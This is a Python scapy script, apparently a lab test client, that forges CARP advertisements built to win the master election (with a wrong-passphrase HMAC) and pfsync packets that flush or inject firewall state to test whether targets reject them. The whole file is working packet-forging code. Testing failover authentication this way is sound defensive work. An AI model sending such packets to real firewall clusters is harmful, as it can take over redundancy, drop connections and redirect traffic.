#!/usr/bin/python3
"""Forged CARP adverts and pfsync packets from the lab's client (scapy; run with Debian's /usr/bin/python3).

  forge.py VECTORS_DIR TARGET [TARGET...] COUNT

To every TARGET: COUNT CARP adverts for vhid 1 with advskew 0 (would win the election if accepted), a
valid checksum and an HMAC made with a wrong passphrase; and COUNT pfsync packets taken from the shared
vectors (a CLR that would flush the table, and an INS whose state is re-addressed to 198.51.100.99), sent
with TTL 255. Prints what was sent."""
import sys

from scapy.all import IP, Raw, conf, rdpcap, send  # noqa: E402
from scapy.utils import checksum


def carp_advert():
    # CARPv2: version 2 / type 1, vhid 1, advskew 0, authlen 7, demote 0, advbase 1, checksum, counter, HMAC.
    body = bytearray([0x21, 1, 0, 7, 0, 1, 0, 0]) + bytes(8) + bytes([0x5A] * 20)
    c = checksum(bytes(body))
    body[6:8] = c.to_bytes(2, "big")
    return bytes(body)


def pfsync_payloads(vectors):
    out = []
    for name in ("pfsync_clr.pcap", "pfsync_ins_tcp.pcap"):
        pkt = rdpcap(f"{vectors}/{name}")[0]
        payload = bytes(pkt[IP].payload)
        if name == "pfsync_ins_tcp.pcap":
            # Make the inserted state recognisable: its 10.0.0.5 becomes 198.51.100.99.
            src = bytes([10, 0, 0, 5])  # the state's source address in the vector
            payload = payload.replace(src, bytes([198, 51, 100, 99]))
        out.append((name, payload))
    return out


def main():
    vectors, targets, count = sys.argv[1], sys.argv[2:-1], int(sys.argv[-1])
    if not targets or not 0 < count <= 100:
        sys.exit("usage: forge.py VECTORS_DIR TARGET... COUNT (COUNT 1..100)")
    conf.verb = 0
    adv = carp_advert()
    pf = pfsync_payloads(vectors)
    for t in targets:
        send(IP(dst=t, ttl=255, proto=112) / Raw(adv), count=count, inter=0.05)
        print(f"{count} CARP adverts (vhid 1, advskew 0, wrong HMAC) -> {t}")
        for name, payload in pf:
            send(IP(dst=t, ttl=255, proto=240) / Raw(payload), count=count, inter=0.05)
            print(f"{count} pfsync packets from {name} ({len(payload)} bytes) -> {t}")


if __name__ == "__main__":
    main()
